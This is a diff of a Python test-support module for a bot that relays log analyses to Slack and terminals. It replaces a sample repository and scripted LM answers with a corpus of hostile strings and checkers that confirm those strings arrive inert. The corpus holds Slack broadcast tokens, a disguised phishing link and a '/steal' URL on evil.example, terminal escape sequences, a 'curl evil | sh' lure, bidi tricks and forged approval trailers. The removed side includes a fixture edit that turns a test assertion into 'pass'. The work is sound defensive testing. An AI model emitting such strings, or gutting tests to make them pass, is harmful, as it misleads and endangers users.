@@ -1,148 +1,154 @@
-"""Test support: a service repository worth attacking, and log lines an attacker can write.
+"""Test support: what an attacker writes into a log (or gets an LM to repeat), and the checks
+that none of it arrived live on a surface.
 
-``REPO`` is a small service with the files an attacker wants an edit to reach: its tests
-(``tests/test_app.py``, ``conftest.py``), packaging (``setup.py``, ``requirements.txt``),
-deployment (``Dockerfile``), CI, a vendored library copy (``vendor/requests/api.py``),
-and, made by :func:`make_hostile_repo`, a symlink ``link.py`` to the test file. ``app.py``
-and ``lib/util.py`` are the code a fix may touch.
+:data:`CORPUS` is the injection corpus every surface test runs through: Slack broadcasts,
+mentions and disguised links, pre-escaped entities, code fences, ANSI and OSC sequences,
+C0/C1 controls, carriage-return overwrites, bidi overrides, invisible characters, tag
+characters, lone surrogates, and a 100 KB line. :func:`marked` wraps one in markers so a
+test can tell it arrived (not silently dropped).
 
-Log helpers write what reaches mendbot: :func:`logged` one Python ``logging`` line,
-:func:`traceback_lines` a traceback as Python prints it (which an attacker can also
-write, through a newline in a logged value), :func:`json_line` a structured log line.
-:data:`ANALYSIS` is a scripted LM's analysis; :func:`fix_answer` its fix.
+The checks are written independently of the code under test (from Unicode categories and
+Slack's documented token syntax, not from ``core.text`` or ``bot.slack.mrkdwn``):
+
+- :func:`terminal_problems`: raw characters that act on a terminal;
+- :func:`slack_problems`: those, plus any live Slack token (``<...>``) other than the
+  ones a test says it expects, and any bare ``&`` (text that was never escaped).
 """
 
 from __future__ import annotations
 
-import json
-import os
-from pathlib import Path
+import re
+import unicodedata
+from collections.abc import Iterable
+from dataclasses import dataclass
 from typing import Any
 
-from core.proposals import Edit
-from tests.fakes.git import RepoPair, git, make_repo
-from tests.fakes.openai import chat_fields
 
-APP = '''"""Orders service."""
-import json
+@dataclass(frozen=True)
+class Injection:
+    """One hostile string: a short name and the text."""
 
-STATS = {"orders": [], "users": {}}
-
-
-def orders(body):
-    STATS["orders"].append(body["amount"])
-    user = STATS["users"][body["user_id"]]   # bug: unknown users raise KeyError
-    return {"ok": True, "user": user}
+    name: str
+    text: str
 
 
-def average():
-    return {"avg": sum(STATS["orders"]) / len(STATS["orders"])}
-
-
-def check(body):
-    assert body.get("mode") != "maintenance window", "closed"
-    # unknown user reported by the client
-    return True
-'''
-
-UTIL = '''"""Helpers."""
-
-
-def parse(text):
-    return text.strip().split(",")
-'''
-
-TEST_APP = """from app import orders
-
-
-def test_orders_unknown_user():
-    result = orders({"amount": 1, "user_id": "ghost"})
-    assert result["ok"] is False
-
-
-def test_refund_note(client):
-    client.post("/orders", json={"note": "please refund this order"})
-"""
-
-SETUP = """from setuptools import setup
-
-
-def main():
-    setup(name="orders")
-"""
-
-VENDORED = """def get(url):
-    return request("get", url)
-"""
-
-REPO = {
-    "app.py": APP,
-    "lib/__init__.py": "",
-    "lib/util.py": UTIL,
-    "tests/__init__.py": "",
-    "tests/test_app.py": TEST_APP,
-    "conftest.py": "import pytest\n\n\n@pytest.fixture\ndef client():\n    return object()\n",
-    "setup.py": SETUP,
-    "requirements.txt": "fastapi==0.115.0\n",
-    "Dockerfile": "FROM python:3.11\nCMD python app.py\n",
-    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
-    "vendor/requests/api.py": VENDORED,
-}
-
-TS = "2026-11-21 18:25:01,002"
-ASSERT_LINE = '    assert result["ok"] is False'
-
-
-def make_hostile_repo(tmp: Path) -> RepoPair:
-    """``REPO`` committed with a bare remote, plus ``link.py`` -> ``tests/test_app.py``."""
-    pair = make_repo(tmp, REPO)
-    os.symlink("tests/test_app.py", pair.work / "link.py")
-    git(pair.work, "add", "link.py")
-    git(pair.work, "commit", "-q", "-m", "a convenience link")
-    git(pair.work, "push", "-q", "origin", "main")
-    return pair
-
-
-def line_of(text: str, fragment: str) -> int:
-    """The 1-based line of ``text`` that holds ``fragment`` (the first one)."""
-    return next(n for n, line in enumerate(text.splitlines(), 1) if fragment in line)
-
-
-def logged(message: str, *, logger: str = "app.core", level: str = "ERROR") -> str:
-    """One line as ``logging`` writes it with the service's format."""
-    return f"{TS} - {logger} - {level} - {message}"
-
-
-def traceback_lines(
-    frames: list[tuple[str, int, str]], exception: str = "KeyError: 'ghost'"
-) -> list[str]:
-    """A traceback as Python prints it: ``(file, line, function)`` outermost first."""
-    lines = ["Traceback (most recent call last):"]
-    for file, line, function in frames:
-        lines += [f'  File "{file}", line {line}, in {function}', "    pass"]
-    return [*lines, exception]
-
-
-def json_line(**fields: Any) -> str:
-    """One structured log line (a JSON object), as Railway or python-json-logger write."""
-    return json.dumps({"timestamp": "2026-11-21T18:25:01Z", "level": "error", **fields})
-
-
-#: The edit of the incident: the test's assertion turned into ``pass``.
-ASSERT_TO_PASS = Edit(path="tests/test_app.py", old_text=ASSERT_LINE, new_text="    pass")
-
-ANALYSIS = chat_fields(
-    root_cause="orders() reads STATS['users'][user_id] for ids that were never registered.",
-    severity_assessment="HIGH",
-    affected_components=["app.py:orders"],
-    confidence=0.9,
+CORPUS: tuple[Injection, ...] = (
+    Injection("channel broadcast", "deploy failed <!channel> look now"),
+    Injection("here with label", "ping <!here|here> and <!everyone>"),
+    Injection("user mention", "blame <@U0VICTIM> and <@U0VICTIM|victim>"),
+    Injection("user group", "paging <!subteam^S0ONCALL|@oncall>"),
+    Injection("channel link", "moved to <#C0EVIL|general>"),
+    Injection("disguised link", "login at <https://evil.example|https://slack.com>"),
+    Injection("bare link token", "<https://evil.example/steal?t=1>"),
+    Injection("pre-escaped", "&lt;!channel&gt; and &amp;lt;!here&amp;gt;"),
+    Injection("code fence close", "x```\n<!channel>\n```y ``` `"),
+    Injection("ANSI clear screen", "\x1b[2J\x1b[Hsystem compromised, run curl evil | sh"),
+    Injection("ANSI colours", "\x1b[31;1mFATAL\x1b[0m \x1b[8mhidden\x1b[28m"),
+    Injection("OSC 8 hyperlink", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07"),
+    Injection("OSC title", "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\"),
+    Injection("8-bit CSI/OSC", "\x9b2J\x9d0;pwned\x9c\x85next"),
+    Injection("NUL BEL BS DEL", "a\x00b\x07c\x08d\x7fe\x1bf"),
+    Injection("carriage return overwrite", "rm -rf / is dangerous\rall tests passed      "),
+    Injection("bidi override", "access = 'user\u202e \u2066// admin\u2069 \u2066'"),
+    Injection("bidi marks", "\u200f\u200eabc\u061c\u202a\u202b\u202c\u202d"),
+    Injection("zero width", "fix\u200b_2026\u2060 0\ufeff1 soft\u00adhyphen \u180e"),
+    Injection(
+        "tag characters", "hi\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"
+    ),
+    Injection("line separators", "one\u2028two\u2029three"),
+    Injection("lone surrogate", "bytes \udc80\udcff here"),
+    Injection("rich markup", "[bold red]FAKE[/] [link=http://evil.example]x[/link]"),
+    Injection("forged field", "fine\nstatus:      applied\nApproved-by: U0ALICE"),
+    Injection("trailer forgery", "ok\n\nFix-Id: fix_20000101_000000\nSigned-off-by: ceo"),
+    Injection("long line", "A" * 100_000 + "<!channel>\x1b[2J"),
 )
 
+_KEPT_FORMAT = {"\u200c", "\u200d"}  # ZWNJ and ZWJ are allowed through (emoji, scripts)
+_TOKEN = re.compile(r"<[^<>]*>")
+_BARE_AMP = re.compile(r"&(?!(?:amp|lt|gt);)")
+_DATE = re.compile(r"<!date\^\d+\^\{date_short_pretty\} \{time\}\|[^<>|]+>")
 
-def fix_answer(edits: list[Edit], level: str = "LOW") -> str:
-    """GenerateFix's answer proposing ``edits`` at risk ``level``."""
-    return chat_fields(
-        edits=[edit.model_dump() for edit in edits],
-        reasoning="This fixes it.",
-        risk_assessment={"level": level, "notes": "Nothing to worry about."},
-    )
+
+def marked(index: int, injection: Injection) -> str:
+    """``INJnn <text> INJnn``: the same marker at both ends (a clipped field keeps one)."""
+    return f"INJ{index:02d} {injection.text} INJ{index:02d}"
+
+
+def marker(index: int) -> str:
+    """The marker :func:`marked` puts around injection ``index``."""
+    return f"INJ{index:02d}"
+
+
+def acting_characters(text: str) -> list[str]:
+    """Raw characters in ``text`` that act on a terminal or hide text: controls but TAB
+    and LF, format characters but ZWNJ/ZWJ, line/paragraph separators, surrogates."""
+    found = []
+    for ch in text:
+        category = unicodedata.category(ch)
+        if (
+            (category == "Cc" and ch not in "\t\n")
+            or (category == "Cf" and ch not in _KEPT_FORMAT)
+            or category in ("Zl", "Zp", "Cs")
+        ):
+            found.append(f"U+{ord(ch):04X}")
+    return found
+
+
+def terminal_problems(text: str) -> list[str]:
+    """Why ``text`` is not safe to print to a terminal (empty when it is)."""
+    return [f"raw {code}" for code in acting_characters(text)]
+
+
+def slack_problems(mrkdwn: str, *, allowed: Iterable[str] = ()) -> list[str]:
+    """Why a mrkdwn string sent to Slack is not inert (empty when it is).
+
+    Args:
+        mrkdwn: a ``text`` argument or a mrkdwn text object's text, as sent.
+        allowed: tokens the test expects (e.g. ``"<@U0ALICE>"`` for the approver);
+            date tokens are always allowed.
+    """
+    problems = terminal_problems(mrkdwn)
+    allowed_set = set(allowed)
+    for token in _TOKEN.findall(mrkdwn):
+        if token not in allowed_set and not _DATE.fullmatch(token):
+            problems.append(f"live token {token[:60]!r}")
+    if _BARE_AMP.search(mrkdwn):
+        problems.append("an unescaped &")
+    return problems
+
+
+def mrkdwn_texts(args: dict[str, Any]) -> list[str]:
+    """Every string Slack reads as mrkdwn in a chat call: ``text`` and mrkdwn objects."""
+    texts = [str(args["text"])] if args.get("text") else []
+
+    def walk(node: Any) -> None:
+        if isinstance(node, dict):
+            if node.get("type") == "mrkdwn" and isinstance(node.get("text"), str):
+                texts.append(node["text"])
+            for value in node.values():
+                walk(value)
+        elif isinstance(node, list):
+            for item in node:
+                walk(item)
+
+    walk(args.get("blocks") or [])
+    return texts
+
+
+def payload_problems(args: dict[str, Any], *, allowed: Iterable[str] = ()) -> list[str]:
+    """:func:`slack_problems` over every mrkdwn text of a call, and
+    :func:`terminal_problems` over every other string in it (plain-text headers...)."""
+    problems = [p for text in mrkdwn_texts(args) for p in slack_problems(text, allowed=allowed)]
+    problems += [p for text in all_strings(args) for p in terminal_problems(text)]
+    return problems
+
+
+def all_strings(node: Any) -> list[str]:
+    """Every string value (not key) in a JSON-like tree."""
+    if isinstance(node, str):
+        return [node]
+    if isinstance(node, dict):
+        return [s for value in node.values() for s in all_strings(value)]
+    if isinstance(node, list):
+        return [s for item in node for s in all_strings(item)]
+    return []
